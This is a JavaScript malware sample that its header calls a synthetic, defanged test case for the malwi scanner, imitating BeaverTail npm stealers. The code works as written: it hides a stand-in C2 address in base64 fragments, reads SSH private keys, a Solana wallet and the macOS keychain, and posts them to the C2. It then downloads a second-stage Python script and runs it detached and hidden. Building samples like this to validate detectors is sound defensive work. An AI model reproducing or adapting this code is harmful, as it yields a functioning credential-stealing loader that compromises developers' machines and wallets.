// SYNTHETIC, DEFANGED malwi validation sample - modelled on Contagious Interview / BeaverTail packages, fragmented-host variant (2024); never run.
// The C2 address is split into base64 pieces; the second stage is a Python script
// (InvisibleFerret-style) saved in the home folder and started detached.
const os = require('os');
const fs = require('fs');
const path = require('path');
const axios = require('axios');
const { spawn } = require('child_process');

const d = (s) => Buffer.from(s, 'base64').toString();
const base = ['aHR0cDovLw==', 'MTk4LjUx', 'LjEwMC4=', 'NTE6MTI0NA=='].map(d).join('');
const hid = os.hostname() + '+' + os.userInfo().username;
const home = os.homedir();

async function keys() {
  const found = {};
  for (const f of ['.ssh/id_rsa', '.ssh/id_ed25519', '.config/solana/id.json', 'Library/Keychains/login.keychain-db']) {
    const p = path.join(home, f);
    if (fs.existsSync(p)) found[f] = fs.readFileSync(p).toString('base64');
  }
  await axios.post(base + d('L2tleXM='), { hid, ts: Date.now(), type: d('UExBQ0VIT0xERVJfQ0FNUEFJR04='), found }).catch(() => {});
}

async function stage() {
  const dir = path.join(home, d('LnB5cA=='));
  fs.mkdirSync(dir, { recursive: true });
  const res = await axios.get(base + d('L2NsaWVudC8=') + 'PLACEHOLDER_CAMPAIGN', { responseType: 'arraybuffer' }).catch(() => null);
  if (!res) return;
  const file = path.join(home, '.npl');
  fs.writeFileSync(file, Buffer.from(res.data));
  const py = os.platform() === 'win32' ? path.join(dir, 'python.exe') : 'python3';
  spawn(py, [file], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
}

keys().then(stage).catch(() => {});
